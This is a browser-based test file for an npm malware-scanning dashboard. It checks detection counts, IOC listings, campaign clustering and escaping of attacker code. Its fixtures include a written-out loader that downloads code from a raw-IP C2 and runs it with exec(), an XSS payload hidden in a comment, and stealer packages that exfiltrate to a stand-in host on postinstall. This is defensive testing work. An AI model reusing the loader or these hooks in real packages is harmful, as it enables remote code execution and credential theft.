import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type RunningIndex, startIndex } from '../../src/service/index.js';
import { BENIGN_INDEX, FakeRegistries, stealerIndex, tempDir, testConfig, waitFor } from './helpers.js';

const CHROMIUM = '/usr/bin/chromium';
const hasChromium = existsSync(CHROMIUM);
if (!hasChromium)
  console.warn(
    `${CHROMIUM} not found: skipping the dashboard browser test (run scripts/ensure-chromium.sh).`,
  );

/** A BeaverTail-style loader: fetches a payload from a raw-IP C2 on port 1224 and runs it. */
const LOADER = `const http = require('http');
const { exec } = require('child_process');
const C2 = 'http://45.61.160.14:1224/pdown'; // <img src=x onerror="window.__xss=1">
http.get(C2, (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => exec(d)); });
`;

describe.skipIf(!hasChromium)('dashboard in headless Chromium', () => {
  let reg: FakeRegistries;
  let tmp: ReturnType<typeof tempDir>;
  let running: RunningIndex;
  let ctx: BrowserContext;
  let page: Page;
  let profile: string;
  const problems: string[] = [];

  beforeAll(async () => {
    reg = await new FakeRegistries().start();
    tmp = tempDir();
    const now = Date.now();
    const day = 86_400_000;
    await reg.publish({
      name: 'fine-utils',
      version: '1.2.3',
      files: { 'index.js': BENIGN_INDEX },
      publishedAt: now - 2 * day,
    });
    for (const [i, name] of ['discord-tokens-helper', 'env-sync-tool', 'colorz-logger'].entries()) {
      await reg.publish({
        name,
        version: `0.0.${i + 1}`,
        files: { 'index.js': stealerIndex('grab.exfil-hub.xyz') },
        scripts: { postinstall: 'node index.js' },
        publishedAt: now - (i + 1) * 3_600_000,
        publisher: 'mallory',
      });
    }
    for (const name of ['react-interview-task', 'node-coding-test']) {
      await reg.publish({
        name,
        version: '1.0.0',
        files: { 'index.js': LOADER },
        scripts: { postinstall: 'node index.js' },
        publishedAt: now - 600_000,
      });
    }
    running = await startIndex(testConfig(reg, `sqlite:${tmp.dir}/index.db`), {
      watch: true,
      work: true,
      serve: true,
    });
    await waitFor(async () => (await running.backend.queue.counts()).done === 6 || undefined, 30_000);
    profile = mkdtempSync(join(tmpdir(), 'beagle-chromium-'));
    ctx = await chromium.launchPersistentContext(profile, {
      executablePath: CHROMIUM,
      headless: true,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        '--disable-quic',
      ],
    });
    page = ctx.pages()[0] ?? (await ctx.newPage());
    page.on('console', (m) => {
      if (m.type() === 'error') problems.push(`console: ${m.text()}`);
    });
    page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
  }, 120_000);

  afterAll(async () => {
    await ctx?.close();
    if (profile) rmSync(profile, { recursive: true, force: true });
    await running?.stop();
    await reg?.stop();
    tmp?.cleanup();
  });

  async function go(hash: string): Promise<void> {
    await page.goto(`${running.url}/${hash}`);
    await page.waitForFunction(
      (h) => (globalThis as any).document.body.dataset.ready === h,
      hash.replace(/^#/, '') || '/',
    );
  }

  it('shows the overview with charts and the latest detections', async () => {
    await go('');
    expect(await page.textContent('#kpi-malicious b')).toBe('5');
    expect(await page.textContent('#kpi-scanned b')).toBe('6');
    expect(await page.locator('#chart-time svg rect[data-series="npm"]').count()).toBeGreaterThan(0);
    const npmTotal = await page.$$eval('#chart-time rect[data-series="npm"]', (rs) =>
      rs.reduce((a, r) => a + Number(r.getAttribute('data-value')), 0),
    );
    expect(npmTotal).toBe(5);
    expect(await page.locator('#chart-categories rect[data-category]').count()).toBeGreaterThan(0);
    expect(await page.locator('#chart-latency circle').count()).toBeGreaterThan(0);
    const latest = await page.$$eval('#latest a.pkg', (as) => as.map((a) => a.textContent));
    expect(latest).toHaveLength(5);
    expect(latest).toContain('react-interview-task@1.0.0');
    expect(latest).not.toContain('fine-utils@1.2.3');
    if (process.env.BEAGLE_SCREENSHOTS)
      await page.screenshot({ path: join(process.env.BEAGLE_SCREENSHOTS, 'overview.png'), fullPage: true });
  });

  it('searches and opens a package page with findings, code snippets and IOCs', async () => {
    await go('');
    await page.fill('#q', 'interview');
    await page.click('#search button');
    await page.waitForFunction(() => (globalThis as any).document.body.dataset.ready?.startsWith('/search'));
    expect(await page.$$eval('#results a.pkg', (as) => as.map((a) => a.textContent))).toEqual([
      'react-interview-task@1.0.0',
    ]);
    await page.click('#results a.pkg');
    await page.waitForFunction(() =>
      (globalThis as any).document.body.dataset.ready?.startsWith('/package/'),
    );
    expect(await page.textContent('#pkg-title')).toBe('react-interview-task@1.0.0');
    expect(await page.textContent('.badge.malicious')).toBe('malicious');
    expect(await page.locator('#findings .finding').count()).toBeGreaterThan(0);
    const snippets = await page.$$eval('#findings pre.snippet', (ps) => ps.map((p) => p.textContent ?? ''));
    expect(snippets.some((s) => s.includes('45.61.160.14:1224'))).toBe(true);
    expect(await page.textContent('#pkg-iocs')).toContain('http://45.61.160.14:1224/pdown');
    // Attacker-controlled code is shown as text, never interpreted as markup.
    expect(await page.locator('main img').count()).toBe(0);
    expect(await page.evaluate(() => (globalThis as any).__xss)).toBeUndefined();
  });

  it('lists campaigns: shared infrastructure clusters and an attributed DPRK cluster', async () => {
    await go('#/campaigns');
    const cards = page.locator('section.campaign');
    expect(await cards.count()).toBe(2);
    const dprk = cards.filter({ hasText: 'North Korea' });
    expect(await dprk.count()).toBe(1);
    expect(await dprk.locator('.badge.high').count()).toBe(1);
    expect(await dprk.textContent()).toContain('2 package version(s)');
    const stealers = cards.filter({ hasText: '3 package version(s)' });
    expect(await stealers.textContent()).toContain('unattributed');
    await dprk.locator('h2 a').click();
    await page.waitForFunction(() =>
      (globalThis as any).document.body.dataset.ready?.startsWith('/campaign/'),
    );
    expect(await page.textContent('main')).toContain('contagious-interview@1.0.0');
    if (process.env.BEAGLE_SCREENSHOTS)
      await page.screenshot({ path: join(process.env.BEAGLE_SCREENSHOTS, 'campaign.png'), fullPage: true });
  });

  it('lists IOCs and (no) parked jobs', async () => {
    await go('#/iocs');
    const iocs = await page.$$eval('main td code', (cs) => cs.map((c) => c.textContent));
    expect(iocs).toContain('http://45.61.160.14:1224/pdown');
    expect(iocs.some((i) => i?.includes('grab.exfil-hub.xyz'))).toBe(true);
    await go('#/jobs');
    expect(await page.textContent('main')).toContain('done 6');
    expect(await page.textContent('main')).toContain('No parked jobs.');
  });

  it('shows a not-found message for unknown packages and raises no browser errors', async () => {
    await go('#/package/npm/not-there/9.9.9');
    expect(await page.textContent('.error-box')).toContain('Not found');
    expect(problems.filter((p) => !p.includes('404'))).toEqual([]);
  });
});
